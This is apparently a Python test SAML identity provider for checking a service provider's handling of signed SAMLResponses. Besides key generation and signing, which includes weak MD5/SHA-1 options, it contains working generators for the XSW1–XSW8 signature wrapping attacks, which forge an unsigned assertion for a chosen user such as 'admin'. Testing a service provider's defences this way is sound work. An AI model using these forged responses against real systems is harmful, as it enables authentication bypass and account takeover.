"""A small test SAML identity provider: a signing key, signed SAMLResponses, and the attack variants
(signature wrapping, tampering, …) that a service provider must refuse. For tests and trying flows by hand."""
from __future__ import annotations

import base64
import copy
import datetime as dt
import secrets
import urllib.parse
from dataclasses import dataclass, field
from functools import cached_property
from pathlib import Path

import click
from lxml import etree

NS_SAMLP = "urn:oasis:names:tc:SAML:2.0:protocol"
NS_SAML = "urn:oasis:names:tc:SAML:2.0:assertion"
NS_DS = "http://www.w3.org/2000/09/xmldsig#"
NS_XS = "http://www.w3.org/2001/XMLSchema"
NS_XSI = "http://www.w3.org/2001/XMLSchema-instance"
STATUS_SUCCESS = "urn:oasis:names:tc:SAML:2.0:status:Success"
CM_BEARER = "urn:oasis:names:tc:SAML:2.0:cm:bearer"

DEFAULT_IDP_ENTITY_ID = "https://idp.stepsmith.local/saml"
DEFAULT_SP_ENTITY_ID = "https://sagemaker-studio.stepsmith.local/saml"
DEFAULT_ACS_URL = "http://127.0.0.1:3000/saml"
DEFAULT_KEY_DIR = Path(".stepsmith") / "idp"


def _q(ns: str, tag: str) -> str:
    return f"{{{ns}}}{tag}"


def _saml_time(moment: dt.datetime) -> str:
    return moment.astimezone(dt.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


def new_id() -> str:
    """A fresh xs:ID value (must not start with a digit)."""
    return "_" + secrets.token_hex(16)


@dataclass(frozen=True)
class SigningKey:
    """A private key (RSA or EC) and its self-signed certificate, both PEM."""

    key_pem: bytes
    cert_pem: bytes

    @cached_property
    def kind(self) -> str:
        """`rsa` or `ec`: which family of signature methods this key signs with."""
        from cryptography.hazmat.primitives.asymmetric import ec
        from cryptography.hazmat.primitives.serialization import load_pem_private_key

        return "ec" if isinstance(load_pem_private_key(self.key_pem, None), ec.EllipticCurvePrivateKey) else "rsa"

    @property
    def cert_body(self) -> str:
        """The certificate as one base64 line, as IdP metadata and SAM parameters carry it."""
        lines = self.cert_pem.decode().strip().splitlines()
        return "".join(line for line in lines if not line.startswith("-----"))


def generate_key(common_name: str = "Stepsmith test IdP", days: int = 3650, kind: str = "rsa") -> SigningKey:
    """Generate a key (`rsa`: 2048-bit RSA; `ec`: ECDSA on P-256) and a self-signed SHA-256 certificate."""
    from cryptography import x509
    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import ec, rsa
    from cryptography.x509.oid import NameOID

    if kind == "rsa":
        key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    elif kind == "ec":
        key = ec.generate_private_key(ec.SECP256R1())
    else:
        raise ValueError(f"key kind must be rsa or ec, not {kind!r}")
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, common_name)])
    now = dt.datetime.now(dt.UTC)
    cert = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(days=1))
        .not_valid_after(now + dt.timedelta(days=days))
        .sign(key, hashes.SHA256())
    )
    return SigningKey(
        key_pem=key.private_bytes(
            serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
        ),
        cert_pem=cert.public_bytes(serialization.Encoding.PEM),
    )


def load_or_create_key(directory: Path = DEFAULT_KEY_DIR, kind: str = "rsa") -> SigningKey:
    """The key pair stored in `directory` (key.pem, cert.pem), generated (`kind`: rsa | ec) on first use."""
    key_path, cert_path = directory / "key.pem", directory / "cert.pem"
    if key_path.exists() and cert_path.exists():
        return SigningKey(key_path.read_bytes(), cert_path.read_bytes())
    signing_key = generate_key(kind=kind)
    directory.mkdir(parents=True, exist_ok=True)
    key_path.write_bytes(signing_key.key_pem)
    key_path.chmod(0o600)
    cert_path.write_bytes(signing_key.cert_pem)
    return signing_key


OMIT = ""  # pass as destination/recipient/audience to leave that element or attribute out


@dataclass
class ResponseOptions:
    """What goes into one SAMLResponse; None means the natural value from the entity ids and ACS URL."""

    user: str
    domain: str
    idp_entity_id: str = DEFAULT_IDP_ENTITY_ID
    sp_entity_id: str = DEFAULT_SP_ENTITY_ID
    acs_url: str = DEFAULT_ACS_URL
    username_attribute: str = "username"
    domain_attribute: str = "domain-id"
    attributes: dict[str, list[str]] | None = None  # replaces the username/domain attributes entirely
    name_id: str | None = None
    issuer: str | None = None  # the assertion's and response's Issuer
    destination: str | None = None
    recipient: str | None = None
    audience: str | None = None
    # Further AudienceRestriction elements, each a list of Audience values (after the one for `audience`).
    extra_audience_restrictions: list[list[str]] = field(default_factory=list)
    status: str = STATUS_SUCCESS
    now: dt.datetime | None = None
    not_before_offset: int = -5  # seconds relative to `now`
    lifetime: int = 300  # NotOnOrAfter = now + lifetime
    sign: str = "assertion"  # assertion | response | both | none
    digest: str = "sha256"  # the DigestMethod: md5 | sha1 | sha256 | sha384 | sha512
    signature_hash: str | None = None  # the SignatureMethod's hash (rsa-/ecdsa- by the key); None: `digest`
    response_id: str = field(default_factory=new_id)
    assertion_id: str = field(default_factory=new_id)


def build_response(options: ResponseOptions) -> etree._Element:
    """Build the unsigned samlp:Response element."""
    now = options.now or dt.datetime.now(dt.UTC)
    issue = _saml_time(now)
    not_before = _saml_time(now + dt.timedelta(seconds=options.not_before_offset))
    not_after = _saml_time(now + dt.timedelta(seconds=options.lifetime))
    issuer = options.issuer if options.issuer is not None else options.idp_entity_id
    destination = options.destination if options.destination is not None else options.acs_url
    recipient = options.recipient if options.recipient is not None else options.acs_url
    audience = options.audience if options.audience is not None else options.sp_entity_id
    attributes = options.attributes
    if attributes is None:
        attributes = {options.username_attribute: [options.user], options.domain_attribute: [options.domain]}

    nsmap = {"samlp": NS_SAMLP, "saml": NS_SAML}
    response = etree.Element(_q(NS_SAMLP, "Response"), nsmap=nsmap)
    response.set("ID", options.response_id)
    response.set("Version", "2.0")
    response.set("IssueInstant", issue)
    if destination != OMIT:
        response.set("Destination", destination)
    etree.SubElement(response, _q(NS_SAML, "Issuer")).text = issuer
    status = etree.SubElement(response, _q(NS_SAMLP, "Status"))
    etree.SubElement(status, _q(NS_SAMLP, "StatusCode")).set("Value", options.status)

    assertion = etree.SubElement(response, _q(NS_SAML, "Assertion"), nsmap={"xs": NS_XS, "xsi": NS_XSI})
    assertion.set("ID", options.assertion_id)
    assertion.set("Version", "2.0")
    assertion.set("IssueInstant", issue)
    etree.SubElement(assertion, _q(NS_SAML, "Issuer")).text = issuer
    subject = etree.SubElement(assertion, _q(NS_SAML, "Subject"))
    name_id = etree.SubElement(subject, _q(NS_SAML, "NameID"))
    name_id.set("Format", "urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified")
    name_id.text = options.name_id if options.name_id is not None else options.user
    confirmation = etree.SubElement(subject, _q(NS_SAML, "SubjectConfirmation"))
    confirmation.set("Method", CM_BEARER)
    data = etree.SubElement(confirmation, _q(NS_SAML, "SubjectConfirmationData"))
    data.set("NotOnOrAfter", not_after)
    if recipient != OMIT:
        data.set("Recipient", recipient)
    conditions = etree.SubElement(assertion, _q(NS_SAML, "Conditions"))
    conditions.set("NotBefore", not_before)
    conditions.set("NotOnOrAfter", not_after)
    if audience != OMIT:
        restriction = etree.SubElement(conditions, _q(NS_SAML, "AudienceRestriction"))
        etree.SubElement(restriction, _q(NS_SAML, "Audience")).text = audience
    for audiences in options.extra_audience_restrictions:
        restriction = etree.SubElement(conditions, _q(NS_SAML, "AudienceRestriction"))
        for value in audiences:
            etree.SubElement(restriction, _q(NS_SAML, "Audience")).text = value
    authn = etree.SubElement(assertion, _q(NS_SAML, "AuthnStatement"))
    authn.set("AuthnInstant", issue)
    authn.set("SessionIndex", new_id())
    context = etree.SubElement(authn, _q(NS_SAML, "AuthnContext"))
    etree.SubElement(context, _q(NS_SAML, "AuthnContextClassRef")).text = (
        "urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport"
    )
    statement = etree.SubElement(assertion, _q(NS_SAML, "AttributeStatement"))
    for name, values in attributes.items():
        attribute = etree.SubElement(statement, _q(NS_SAML, "Attribute"))
        attribute.set("Name", name)
        attribute.set("NameFormat", "urn:oasis:names:tc:SAML:2.0:attrname-format:basic")
        for value in values:
            element = etree.SubElement(attribute, _q(NS_SAML, "AttributeValue"))
            element.set(_q(NS_XSI, "type"), "xs:string")
            element.text = value
    return response


HASHES = ("md5", "sha1", "sha256", "sha384", "sha512")  # weak ones too: the SP must refuse them


def sign_element(element: etree._Element, key: SigningKey, digest: str = "sha256",
                 signature_hash: str | None = None) -> None:
    """Add an enveloped XML signature to `element` (a Response or Assertion), right after its Issuer.

    `digest` names the DigestMethod, `signature_hash` the SignatureMethod's hash (default: `digest`);
    the SignatureMethod is RSA or ECDSA as the key is.
    """
    import xmlsec

    signature_hash = signature_hash or digest
    for name in (digest, signature_hash):
        if name not in HASHES:
            raise ValueError(f"hash must be one of {', '.join(HASHES)}, not {name!r}")
    family = "ECDSA" if key.kind == "ec" else "RSA"
    if family == "ECDSA" and signature_hash == "md5":
        raise ValueError("there is no ECDSA-MD5 signature method")
    sign_method = getattr(xmlsec.Transform, f"{family}_{signature_hash.upper()}")
    digest_method = getattr(xmlsec.Transform, digest.upper())
    signature = xmlsec.template.create(element, xmlsec.Transform.EXCL_C14N, sign_method, ns="ds")
    issuer = element.find(_q(NS_SAML, "Issuer"))
    issuer.addnext(signature)
    reference = xmlsec.template.add_reference(signature, digest_method, uri="#" + element.get("ID"))
    xmlsec.template.add_transform(reference, xmlsec.Transform.ENVELOPED)
    xmlsec.template.add_transform(reference, xmlsec.Transform.EXCL_C14N)
    key_info = xmlsec.template.ensure_key_info(signature)
    xmlsec.template.add_x509_data(key_info)
    xmlsec.tree.add_ids(element.getroottree().getroot(), ["ID"])
    context = xmlsec.SignatureContext()
    signing = xmlsec.Key.from_memory(key.key_pem, xmlsec.KeyFormat.PEM, None)
    signing.load_cert_from_memory(key.cert_pem, xmlsec.KeyFormat.PEM)
    context.key = signing
    context.sign(signature)


def make_response(options: ResponseOptions, key: SigningKey) -> bytes:
    """A SAMLResponse document, signed as `options.sign` says, serialised as UTF-8 XML."""
    response = build_response(options)
    if options.sign in ("assertion", "both"):
        sign_element(response.find(_q(NS_SAML, "Assertion")), key, options.digest, options.signature_hash)
    if options.sign in ("response", "both"):
        sign_element(response, key, options.digest, options.signature_hash)
    if options.sign not in ("assertion", "response", "both", "none"):
        raise ValueError(f"sign must be assertion, response, both or none, not {options.sign!r}")
    return etree.tostring(response, xml_declaration=True, encoding="UTF-8")


def encode(document: bytes) -> str:
    """The SAMLResponse form value: base64 of the XML."""
    return base64.b64encode(document).decode("ascii")


def form_body(document: bytes, relay_state: str | None = None) -> str:
    """An HTTP-POST binding body (application/x-www-form-urlencoded) carrying the document."""
    fields = {"SAMLResponse": encode(document)}
    if relay_state is not None:
        fields["RelayState"] = relay_state
    return urllib.parse.urlencode(fields)


# --- attacks -------------------------------------------------------------------------------------------


def _parse(document: bytes) -> etree._Element:
    return etree.fromstring(document, etree.XMLParser(resolve_entities=False, no_network=True))


def _evil_copy(assertion: etree._Element, user: str, domain: str) -> etree._Element:
    """A copy of `assertion` with a fresh ID, no signature and every attribute value rewritten."""
    evil = copy.deepcopy(assertion)
    evil.set("ID", new_id())
    for signature in evil.findall(_q(NS_DS, "Signature")):
        evil.remove(signature)
    _rewrite_identity(evil, user, domain)
    return evil


def _rewrite_identity(assertion: etree._Element, user: str, domain: str) -> None:
    name_id = assertion.find(f"{_q(NS_SAML, 'Subject')}/{_q(NS_SAML, 'NameID')}")
    if name_id is not None:
        name_id.text = user
    for attribute in assertion.iter(_q(NS_SAML, "Attribute")):
        value = domain if "domain" in attribute.get("Name", "") else user
        for element in attribute.findall(_q(NS_SAML, "AttributeValue")):
            element.text = value


def _unsigned_copy(element: etree._Element) -> etree._Element:
    clone = copy.deepcopy(element)
    for signature in clone.findall(_q(NS_DS, "Signature")):
        clone.remove(signature)
    return clone


XSW_VARIANTS = tuple(range(1, 9))


def signature_wrapping(document: bytes, variant: int, user: str, domain: str) -> bytes:
    """One of the eight classic XML signature wrapping attacks (XSW1–XSW8, as in SAML Raider).

    XSW1–2 need a response-signed document; XSW3–8 an assertion-signed one. Each keeps the original
    signature valid over the original element while an unsigned evil assertion for `user`/`domain` sits
    where a careless service provider reads it.
    """
    root = _parse(document)
    signature = root.find(_q(NS_DS, "Signature"))
    assertion = root.find(_q(NS_SAML, "Assertion"))
    if variant in (1, 2):
        if signature is None:
            raise ValueError("XSW1/XSW2 need a document whose Response is signed")
        original = _unsigned_copy(root)
        root.set("ID", new_id())
        _rewrite_identity(assertion, user, domain)
        if variant == 1:
            signature.append(original)  # the signed response hides inside its own Signature
        else:
            signature.addprevious(original)  # detached: the signed response sits beside the Signature
        return etree.tostring(root, xml_declaration=True, encoding="UTF-8")
    assertion_signature = assertion.find(_q(NS_DS, "Signature")) if assertion is not None else None
    if assertion_signature is None:
        raise ValueError(f"XSW{variant} needs a document whose Assertion is signed")
    if variant == 3:
        assertion.addprevious(_evil_copy(assertion, user, domain))
    elif variant == 4:
        evil = _evil_copy(assertion, user, domain)
        assertion.addprevious(evil)
        evil.append(assertion)  # the signed assertion is wrapped by the evil one
    elif variant in (5, 6, 8):
        original = _unsigned_copy(assertion)
        assertion.set("ID", new_id())  # the signed element now is evil, its signature points elsewhere
        _rewrite_identity(assertion, user, domain)
        if variant == 5:
            root.append(original)
        elif variant == 6:
            assertion_signature.append(original)
        else:
            obj = etree.SubElement(assertion_signature, _q(NS_DS, "Object"))
            obj.append(original)
    elif variant == 7:
        extensions = etree.Element(_q(NS_SAMLP, "Extensions"))
        root.find(_q(NS_SAML, "Issuer")).addnext(extensions)
        evil = _evil_copy(assertion, user, domain)
        assertion.addprevious(evil)
        extensions.append(assertion)
    else:
        raise ValueError(f"no signature wrapping variant XSW{variant}; choose 1-8")
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8")


# --- CLI ------------------------------------------------------------------------------------------------


@click.group()
def idp() -> None:
    """A test SAML identity provider: keys and signed SAMLResponses for trying SAML flows locally."""


_key_dir_option = click.option(
    "--key-dir",
    type=click.Path(file_okay=False, path_type=Path),
    default=DEFAULT_KEY_DIR,
    show_default=True,
    help="Where the IdP key and certificate live (created on first use).",
)


@idp.command()
@_key_dir_option
@click.option("--force", is_flag=True, help="Replace an existing key pair.")
@click.option("--kind", type=click.Choice(["rsa", "ec"]), default=None,
              help="rsa (the default): RSA-2048, signs RSA-SHA256; ec: P-256, signs ECDSA-SHA256.")
def keygen(key_dir: Path, force: bool, kind: str | None) -> None:
    """Create the IdP signing key and print its certificate as one base64 line (the IdpCertificate parameter)."""
    if force:
        for name in ("key.pem", "cert.pem"):
            (key_dir / name).unlink(missing_ok=True)
    signing_key = load_or_create_key(key_dir, kind or "rsa")
    if kind and signing_key.kind != kind:
        raise click.UsageError(f"{key_dir} already holds an {signing_key.kind} key; add --force to replace it")
    click.echo(signing_key.cert_body)


@idp.command()
@_key_dir_option
def cert(key_dir: Path) -> None:
    """Print the IdP certificate as one base64 line (the IdpCertificate parameter)."""
    click.echo(load_or_create_key(key_dir).cert_body)


@idp.command()
@click.option("--user", required=True, help="The Studio user profile name (the `username` attribute).")
@click.option("--domain", required=True, help="The Studio domain id (the `domain-id` attribute).")
@click.option("--idp-entity-id", default=DEFAULT_IDP_ENTITY_ID, show_default=True, help="Issuer.")
@click.option("--sp-entity-id", default=DEFAULT_SP_ENTITY_ID, show_default=True, help="Audience.")
@click.option("--acs-url", default=DEFAULT_ACS_URL, show_default=True, help="Destination and Recipient.")
@click.option("--lifetime", default=300, show_default=True, help="Seconds the assertion stays valid.")
@click.option(
    "--sign",
    "sign_",
    type=click.Choice(["assertion", "response", "both", "none"]),
    default="assertion",
    show_default=True,
    help="Which element carries the signature.",
)
@click.option("--xsw", type=click.IntRange(1, 8), default=None,
              help="Wrap the signature (XSW1-8) around an unsigned evil assertion for user `admin`, to see it refused.")
@click.option(
    "--output",
    type=click.Choice(["form", "base64", "xml"]),
    default="form",
    show_default=True,
    help="form: a POST body for `curl --data @-`; base64: the SAMLResponse value; xml: the document.",
)
@_key_dir_option
def sign(
    user: str,
    domain: str,
    idp_entity_id: str,
    sp_entity_id: str,
    acs_url: str,
    lifetime: int,
    sign_: str,
    xsw: int | None,
    output: str,
    key_dir: Path,
) -> None:
    """Make a signed SAMLResponse for USER in DOMAIN and print it."""
    options = ResponseOptions(
        user=user,
        domain=domain,
        idp_entity_id=idp_entity_id,
        sp_entity_id=sp_entity_id,
        acs_url=acs_url,
        lifetime=lifetime,
        sign=("response" if xsw <= 2 else "assertion") if xsw else sign_,
    )
    document = make_response(options, load_or_create_key(key_dir))
    if xsw:
        document = signature_wrapping(document, xsw, "admin", domain)
    if output == "xml":
        click.echo(document.decode())
    elif output == "base64":
        click.echo(encode(document))
    else:
        click.echo(form_body(document))
